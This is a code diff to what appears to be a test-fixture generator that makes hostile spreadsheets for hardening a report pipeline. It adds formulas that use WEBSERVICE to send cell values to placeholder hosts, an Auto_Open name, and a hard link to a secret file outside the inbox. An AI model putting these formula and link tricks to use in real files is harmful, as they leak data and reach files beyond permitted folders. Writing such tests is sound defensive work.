@@ -487,6 +487,30 @@ def unknown_units_table(rng: random.Random) -> Hostile:
     return Hostile("unknown-units-table", "unit-unknown", ".xlsx", data)
 
 
+def live_content(rng: random.Random) -> Hostile:
+    """A valid report carrying what must never reach the marked-up copy sent back: a
+    conditional format and a data validation calling WEBSERVICE, an Auto_Open name, a
+    formula. Read by content; its copy holds values and marks only."""
+    from openpyxl.formatting.rule import FormulaRule
+    from openpyxl.workbook.defined_name import DefinedName
+    from openpyxl.worksheet.datavalidation import DataValidation
+
+    book = openpyxl.load_workbook(io.BytesIO(report_bytes()))
+    ws = book.active
+    url = rng.choice(["http://x.invalid/?", "http://10.0.0.1/leak?v="])
+    ws.conditional_formatting.add(
+        "D9:D16", FormulaRule(formula=[f'ISNUMBER(WEBSERVICE("{url}"&D9))'])
+    )
+    validation = DataValidation(type="custom", formula1=f'=WEBSERVICE("{url}")')
+    validation.add("D10")
+    ws.add_data_validation(validation)
+    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Báo cáo'!$A$1")
+    ws["F9"] = "=SUM(D9:D16)"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return Hostile("live-content", None, ".xlsx", buffer.getvalue())
+
+
 def many_sheets(rng: random.Random) -> Hostile:
     n = rng.choice([600, 1_500, 3_000])
     xml = sheet_xml(f'<row r="1">{number_cell("A1", 1)}</row>')
@@ -863,6 +887,7 @@ KINDS: tuple[Callable[[random.Random], Hostile], ...] = (
     csv_as_xlsx,
     other_province,
     merged_sheets,
+    live_content,
 )
 RARE_KINDS = (oversize,)  # one each per corpus: 21 MB apiece
 # Files that cost little to read but would cost the report stage minutes: one each per
@@ -947,6 +972,13 @@ def _special_entries(
     fifo = folder / "ong-dan.xlsx"
     os.mkfifo(fifo)
     entries.append(ManifestEntry(relative(fifo), "fifo", "file-outside-province", False))
+    hard = folder / "lien-ket-cung.xlsx"
+    try:  # a second name for a file outside the inbox (same file system only)
+        os.link(secret, hard)
+    except OSError:
+        pass
+    else:
+        entries.append(ManifestEntry(relative(hard), "hard-link", "file-outside-province", False))
     return entries
 
 
